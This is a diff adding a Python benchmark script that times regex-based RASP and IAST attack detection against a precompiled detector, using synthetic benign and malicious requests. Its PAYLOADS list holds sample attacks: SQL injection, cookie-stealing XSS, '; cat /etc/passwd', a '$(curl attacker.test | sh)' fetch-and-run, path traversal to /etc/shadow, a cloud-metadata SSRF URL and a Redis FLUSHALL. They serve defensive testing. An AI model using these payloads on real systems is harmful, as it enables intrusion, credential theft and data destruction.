@@ -0,0 +1,196 @@
+"""
+Benchmark: RASP/IAST request inspection, per-rule regex loops vs. the shared detector
+
+Builds a benign corpus (JSON API bodies with ordinary headers) and a malicious
+corpus (the same requests with an attack payload spliced into the body or a
+header), then times, on one core:
+
+  * legacy:   every rule searched in turn with re.search, as the RASP and IAST
+              services did before (RASP stops at the first hit; IAST runs each
+              category's list over every input)
+  * detector: the precompiled AttackDetector built from the same rules
+
+Results are compared request by request and reported as requests/second.
+
+Usage:
+    python scripts/benchmark_runtime_detection.py --requests 20000 --malicious-ratio 0.05
+"""
+import argparse
+import json
+import os
+import random
+import re
+import sys
+import time
+
+# Add backend to path
+sys.path.append(os.path.join(os.path.dirname(__file__), '..'))
+
+from app.services.attack_detector import AttackDetector  # noqa: E402
+from app.services.native_iast_service import DETECTION_CATEGORIES  # noqa: E402
+from app.services.native_rasp_service import ATTACK_PATTERNS  # noqa: E402
+
+# The backreference form the IAST quoted-logic rule had before it joined the combined pattern
+LEGACY_PATTERNS = {"iast.sqli.quoted-logic": r"(\'|\")(\s*)(or|and)(\s*)(\1)"}
+
+WORDS = [
+    "account", "invoice", "shipping", "customer", "status", "pending", "delivered", "priority",
+    "notes", "schedule", "monday", "project", "review", "summary", "quarterly", "report",
+]
+
+# API client traffic: a browser User-Agent or Accept-Language (";", "=") or "Accept: */*"
+# already trips the command-injection and SQL rules, making every request "malicious"
+HEADERS = {
+    "User-Agent": "python-requests/2.32.3",
+    "Accept": "application/json",
+    "Accept-Encoding": "gzip, deflate",
+    "Content-Type": "application/json",
+}
+
+PAYLOADS = [
+    "1' OR '1'='1",
+    "x' or 1=1 --",
+    "1 UNION SELECT password FROM users",
+    "<script>alert(document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "; cat /etc/passwd",
+    "$(curl attacker.test | sh)",
+    "../../../../etc/shadow",
+    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "http://169.254.169.254/latest/meta-data/",
+    "gopher://127.0.0.1:6379/_FLUSHALL",
+]
+
+
+def generate_requests(count: int, malicious_ratio: float, seed: int):
+    """(headers, body) pairs; malicious ones carry a payload in the body or a header"""
+    rng = random.Random(seed)
+    requests = []
+    for n in range(count):
+        record = {
+            "id": n,
+            "name": " ".join(rng.choice(WORDS) for _ in range(3)),
+            "email": f"user{n}@example.com",
+            "tags": rng.sample(WORDS, 4),
+            "notes": " ".join(rng.choice(WORDS) for _ in range(rng.randint(10, 60))),
+            "amount": round(rng.random() * 1000, 2),
+        }
+        headers = dict(HEADERS, **{"X-Request-Id": f"req-{n:08d}"})
+        if rng.random() < malicious_ratio:
+            payload = rng.choice(PAYLOADS)
+            if rng.random() < 0.8:
+                record["notes"] += " " + payload
+            else:
+                headers["Referer"] = f"https://shop.example.com/search?q={payload}"
+        requests.append((headers, json.dumps(record)))
+    return requests
+
+
+def _compile(rules):
+    return [re.compile(LEGACY_PATTERNS.get(rule.id, rule.pattern), re.IGNORECASE) for rule in rules]
+
+
+def legacy_rasp(categories, requests):
+    """The original analyze_request: combine inputs, first hit across all rules wins"""
+    compiled = [(category, _compile(rules)) for category, rules in categories]
+    results = []
+    for headers, body in requests:
+        combined = " ".join([body, *headers.values()])
+        hit = None
+        for category, patterns in compiled:
+            for pattern in patterns:
+                match = pattern.search(combined)
+                if match:
+                    hit = (category, match.group(0))
+                    break
+            if hit:
+                break
+        results.append(hit)
+    return results
+
+
+def legacy_iast(categories, requests):
+    """The original analyze_request: every category's patterns over every input"""
+    compiled = [(category, _compile(rules)) for category, rules in categories]
+    results = []
+    for headers, body in requests:
+        findings = []
+        for location, value in [("body", body), *headers.items()]:
+            for category, patterns in compiled:
+                for pattern in patterns:
+                    match = pattern.search(value)
+                    if match:
+                        findings.append((location, category, match.group(0)))
+                        break
+        results.append(findings)
+    return results
+
+
+def detector_rasp(detector, requests):
+    return [detector.first_match(" ".join([body, *headers.values()])) for headers, body in requests]
+
+
+def detector_iast(detector, requests):
+    results = []
+    for headers, body in requests:
+        findings = []
+        for location, value in [("body", body), *headers.items()]:
+            findings.extend((location, category, matched) for category, matched in detector.matches(value).items())
+        results.append(findings)
+    return results
+
+
+def timed(func, *args):
+    started = time.perf_counter()
+    result = func(*args)
+    elapsed = time.perf_counter() - started
+    return result, elapsed
+
+
+def report(name: str, corpus: str, count: int, legacy_s: float, detector_s: float) -> None:
+    print(
+        f"  {name:<5} {corpus:<9} legacy {count / legacy_s:>10,.0f} req/s   "
+        f"detector {count / detector_s:>10,.0f} req/s   speedup {legacy_s / detector_s:5.1f}x"
+    )
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--requests", type=int, default=20_000, help="Requests per corpus")
+    parser.add_argument("--malicious-ratio", type=float, default=0.05,
+                        help="Share of attack requests in the mixed corpus")
+    parser.add_argument("--seed", type=int, default=7)
+    args = parser.parse_args()
+
+    rasp_categories = list(ATTACK_PATTERNS.items())
+    iast_categories = [(category, rules) for category, _, rules, _ in DETECTION_CATEGORIES]
+    started = time.perf_counter()
+    rasp_detector = AttackDetector(rasp_categories)
+    iast_detector = AttackDetector(iast_categories)
+    print(f"Compiled detectors in {(time.perf_counter() - started) * 1000:.1f} ms")
+
+    corpora = {
+        "benign": generate_requests(args.requests, 0.0, args.seed),
+        "mixed": generate_requests(args.requests, args.malicious_ratio, args.seed + 1),
+        "malicious": generate_requests(args.requests, 1.0, args.seed + 2),
+    }
+    print(f"Requests per corpus: {args.requests:,} (mixed corpus {args.malicious_ratio:.0%} attacks), one core\n")
+
+    mismatches = 0
+    for corpus, requests in corpora.items():
+        for name, legacy, fast, categories, detector in (
+            ("RASP", legacy_rasp, detector_rasp, rasp_categories, rasp_detector),
+            ("IAST", legacy_iast, detector_iast, iast_categories, iast_detector),
+        ):
+            expected, legacy_s = timed(legacy, categories, requests)
+            actual, detector_s = timed(fast, detector, requests)
+            mismatches += sum(a != b for a, b in zip(expected, actual))
+            report(name, corpus, len(requests), legacy_s, detector_s)
+
+    print(f"\nResult mismatches: {mismatches}")
+    if mismatches:
+        raise SystemExit(1)
+
+
+if __name__ == "__main__":
+    main()